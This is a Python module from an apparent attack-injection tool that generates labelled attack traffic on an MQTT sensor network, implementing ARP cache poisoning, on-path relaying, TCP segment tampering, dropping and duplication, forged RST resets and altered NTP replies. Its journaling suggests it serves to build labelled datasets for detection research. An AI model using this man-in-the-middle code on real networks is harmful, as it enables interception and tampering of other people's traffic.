"""Between one unit and the broker: getting on the path, relaying, leaving."""

from collections.abc import Callable

from coldaisle_contracts.addressing import BROKER, INJECTOR, Host
from coldaisle_contracts.plan import Episode
from coldaisle_contracts.taxonomy import Role
from coldaisle_contracts.topics import client_id
from coldaisle_injector import frames, mqtt
from coldaisle_injector.caches import Caches
from coldaisle_injector.catalogue import Double, Edit, Lose, OnPath, Pass, Tamper
from coldaisle_injector.connection import Connection, Half
from coldaisle_injector.editing import Editor, OffPathError
from coldaisle_injector.notes import Notes
from coldaisle_injector.segments import (
    ACK,
    RST,
    SYN,
    Arp,
    Segment,
    datagram,
    has_sack,
    is_sound,
    readdress,
    renew,
    translate,
    with_datagram,
)
from coldaisle_injector.wire import Wire

__all__ = ["PATIENCE_NS", "OffPathError", "Path"]

PATIENCE_NS = 15_000_000_000
"""A claim, a copy or a FIN nobody answers for so long ends the run, ns."""
_IN_FLIGHT = 16
"""More segments than TCP keeps unacknowledged here."""
_DISCARDED = ("tcp.checksum", "tcp.seq", "eth.dst")
"""Fields that make the broker's kernel discard a frame, or never see it."""


class Path:
    """The path between a unit and the broker, and what the attacker does on it.

    Args:
        unit: the victim.
        wire: the attacker's socket.
        notes: its journal; names the episode that holds the path, also after the end of it while connections
            need translation.
        slot_of: the plan's slot at a virtual time, ns.
    """

    def __init__(self, unit: Host, wire: Wire, notes: Notes, slot_of: Callable[[int], int]) -> None:
        self.unit, self._wire, self.notes = unit, wire, notes
        self._times = notes.times
        self._caches = Caches(unit, wire, notes)
        self._editor = Editor(unit, wire, notes, slot_of)
        self._connections = self._editor.connections
        self._leaving = self._confirmed = self._up = self._down = False
        self._since_ns = 0

    # -- phases -------------------------------------------------------------------------------------------------

    def approach(self, episode: Episode, attack: OnPath) -> None:
        """Claim the unit's place at the broker and the broker's at the unit."""
        self.notes.start(episode)
        self._editor.attack, self._editor.acting = attack, False
        self._leaving = self._confirmed = self._up = self._down = False
        if not self._caches.taken:
            self._connections.clear()  # kept until now for stragglers
        self._since_ns = self._times.wall_ns()
        self.notes.phase("approach")
        self._caches.take()

    def begin(self) -> None:
        """Start to act.

        Raises:
            OffPathError: if no traffic passed in both directions since the approach.
        """
        if not self._confirmed:
            raise self._editor.off_path("saw no traffic pass")
        self._editor.acting = True
        self.notes.phase("begin")

    def leave(self) -> None:
        """Stop acting; restore the caches as soon as no connection needs the attacker any more."""
        self._editor.acting, self._leaving = False, True
        self.notes.phase("end")
        self._restore_if_free()

    def _restore_if_free(self) -> None:
        """Restore both caches unless a connection would break."""
        if self.taken and self._leaving and not any(conn.translated for conn in self._connections.values()):
            self._leaving = False
            self._caches.restore()
            self.notes.phase("off_path")

    @property
    def taken(self) -> bool:
        """Whether the caches of unit and broker are poisoned."""
        return self._caches.taken

    @property
    def settled(self) -> bool:
        """Whether everything sent has been answered and no connection that runs through here is half closed."""
        closing = self.taken and any(conn.closing for conn in self._connections.values())
        return self._answered and not closing

    @property
    def _answered(self) -> bool:
        return not self._caches.unanswered and not any(conn.waits for conn in self._connections.values())

    def insist(self) -> None:
        """Repeat claims nobody answered.

        Raises:
            OffPathError: if there is still no answer after :data:`PATIENCE_NS`.
        """
        if self.settled:
            self._since_ns = self._times.wall_ns()
            return
        if self._times.wall_ns() - self._since_ns > PATIENCE_NS:
            raise self._editor.off_path("got no answer")
        self._caches.insist()

    # -- what is due between readings ---------------------------------------------------------------------------

    def copy(self, slot: int, sensor: int, number: int) -> None:
        """Deliver a reading again; see :meth:`Editor.copy`."""
        self._editor.copy(slot, sensor, number)

    def release(self, slot: int, sensor: int) -> None:
        """Deliver a reading that was held; see :meth:`Editor.release`."""
        self._editor.release(slot, sensor)

    def clear(self, sensor: int) -> None:
        """Clear a retained message; see :meth:`Editor.clear`."""
        self._editor.clear(sensor)

    def reset(self, slot: int, sensor: int) -> None:
        """Break a sensor's connection: RST to both sides, in each other's name.

        Raises:
            OffPathError: if no connection of that sensor runs through here.
        """
        port, conn = self._editor.live(sensor)
        for half, other, target in ((conn.up, conn.down, BROKER), (conn.down, conn.up, self.unit)):
            macs = INJECTOR.mac, target.mac
            frame = half.speak(other, macs, self._times.wall_ns(), b"", RST)
            self._editor.send(frame, target, Role.INJECTED, "reset")
        conn.closed = True
        victim = client_id(self.unit.name, sensor)
        self.notes.act("reset", slot=slot, sensor=sensor, port=port, client=victim)

    # -- frames that arrive -------------------------------------------------------------------------------------

    def on_arp(self, arp: Arp, frame: bytes) -> None:
        """Take an answer to a claim, or answer a question about the other side."""
        self._caches.on_arp(arp, frame)

    def on_other(self, frame: bytes, *, upward: bool) -> None:
        """Pass on what is not MQTT; the attack may put another answer of the NTP server in its place."""
        relayed = self._reading_is_the_attack
        self.notes.frame(frame, BROKER, Role.RELAYED, "relay", anomalous=relayed)
        passed = renew(frame, _macs(BROKER if upward else self.unit))
        attack, answer = self._editor.attack, datagram(frame)
        if attack and self._editor.acting and not upward and answer is not None:
            slot = self._editor.slot
            forged = attack.on_answer(slot, answer)
            if forged != answer:
                passed = with_datagram(frame, _macs(self.unit), forged)
                self.notes.frame(passed, self.unit, Role.MODIFIED, "alter", anomalous=True)
                self.notes.act("shift-clock", slot=slot)
        self._wire.send(passed)

    def on_segment(self, segment: Segment) -> None:
        """Pass a segment on, edited where the attack says so."""
        upward = segment.source == self.unit.ip
        port = segment.sport if upward else segment.dport
        if segment.flags & SYN and upward and not segment.flags & ACK:
            self._connections[port] = Connection()
        conn = self._connections.setdefault(port, Connection())
        half, other = (conn.up, conn.down) if upward else (conn.down, conn.up)
        fresh = half.see(segment, self._times.wall_ns())
        conn.closed = conn.closed or bool(segment.flags & RST)
        if not upward:  # the capture saw it before the attacker did
            self._note_answer(segment, conn)
        edit: Edit = Pass()
        if fresh and segment.payload and not (self._leaving and self._answered):
            half.rewritten[segment.seq], edit = self._editor.edit(port, conn, segment, upward=upward)
            self._confirm(upward=upward)
            if len(half.rewritten) > _IN_FLIGHT:
                half.rewritten.pop(next(iter(half.rewritten)))
        payload = half.rewritten.get(segment.seq, segment.payload) if segment.payload else b""
        frame = self._outward(segment, half, other, payload, upward=upward)
        if frame is not None and upward:
            self._send_up(segment, frame, payload != segment.payload, conn, edit, port)
        elif frame is not None:
            self._wire.send(frame)
        self._restore_if_free()

    def _confirm(self, *, upward: bool) -> None:
        """Note that the attacker is on the path once both sides' words passed."""
        self._up, self._down = self._up or upward, self._down or not upward
        if self._up and self._down and not self._confirmed and self.taken and not self._leaving:
            self._confirmed = True
            self.notes.phase("on_path")

    def _note_answer(self, segment: Segment, conn: Connection) -> None:
        """Note a segment of the broker: a consequence where it answers what the attacker did, else relayed."""
        caused = conn.losing or (conn.doubled and has_sack(segment))
        answers = (
            message.type == mqtt.PUBACK and message.mid in (*conn.copies, *conn.renamed)
            for message in mqtt.messages(segment.payload)
        )
        if (caused and not segment.payload) or any(answers):
            conn.doubled = conn.doubled and not has_sack(segment)
            self.notes.frame(segment.frame, BROKER, Role.CONSEQUENCE, "reply", anomalous=True)
            return
        relayed = self._reading_is_the_attack
        self.notes.frame(segment.frame, BROKER, Role.RELAYED, "relay", anomalous=relayed)

    def _outward(
        self, segment: Segment, half: Half, other: Half, payload: bytes, *, upward: bool
    ) -> bytes | None:
        """Return the segment's frame in the other side's numbers, ``None`` when nothing of it is left."""
        macs = _macs(BROKER if upward else self.unit)
        seq = half.stream.outward(segment.seq)
        ack = other.stream.inward(segment.ack) if segment.flags & ACK else segment.ack
        swallowed = bool(segment.payload) and not payload
        # An acknowledgement of what the other side never sent says nothing to it.
        pure = not segment.payload and segment.flags == ACK
        hollow = pure and ack == half.acked[1] and segment.ack != half.acked[0]
        half.acked = (segment.ack, ack)
        if swallowed or hollow:
            if upward:
                role = Role.REMOVED if swallowed else Role.CONSEQUENCE
                self.notes.frame(segment.frame, self.unit, role, "swallow", anomalous=True)
            return None
        if payload != segment.payload:
            return frames.rewrite(segment, macs, seq, ack, payload)
        if (seq, ack) != (segment.seq, segment.ack) or not is_sound(segment):
            return translate(segment, macs, seq, ack)
        return readdress(segment.frame, *macs)

    def _send_up(
        self, segment: Segment, frame: bytes, changed: bool, conn: Connection, edit: Edit, port: int
    ) -> None:
        """Send a frame to the broker, as often and in the shape the edit wants, and note it."""
        if self._lost(segment, frame, conn, edit, port):
            return
        role, act = (Role.MODIFIED, "alter") if changed else (Role.RELAYED, "relay")
        side = BROKER
        if isinstance(edit, Tamper) and not edit.field.startswith("mqtt."):
            frame = frames.tampered(frame, edit.field, edit.value)
            role, act = Role.MODIFIED, "alter"
            if edit.field in _DISCARDED:
                conn.losing[segment.seq] = 0
                side = self.unit if edit.field == "eth.dst" else BROKER
        elif conn.losing.pop(segment.seq, None) is not None:
            role, act = Role.CONSEQUENCE, "repeat"
        self._wire.send(frame)
        touched = role is not Role.RELAYED or self._reading_is_the_attack
        digest = self.notes.frame(frame, side, role, act, anomalous=touched)
        if isinstance(edit, Double):
            conn.doubled = True
            self._editor.send(frame, BROKER, Role.DUPLICATE, "double")
        self._editor.note(edit, port, conn, digest)

    def _lost(self, segment: Segment, frame: bytes, conn: Connection, edit: Edit, port: int) -> bool:
        """Tell whether a segment is to be lost, now or once more, and note it where it is."""
        again = conn.losing.get(segment.seq, 0)
        if isinstance(edit, Lose):
            again = edit.times
            self._editor.note(edit, port, conn, "")
        if not again:
            return False
        conn.losing[segment.seq] = again - 1
        role = Role.REMOVED if isinstance(edit, Lose) else Role.CONSEQUENCE
        self.notes.frame(frame, self.unit, role, "lose", anomalous=True)
        return True

    @property
    def _reading_is_the_attack(self) -> bool:
        attack = self._editor.attack
        return self._editor.acting and attack is not None and attack.labels_relayed


def _macs(target: Host) -> tuple[str, str]:
    return INJECTOR.mac, target.mac
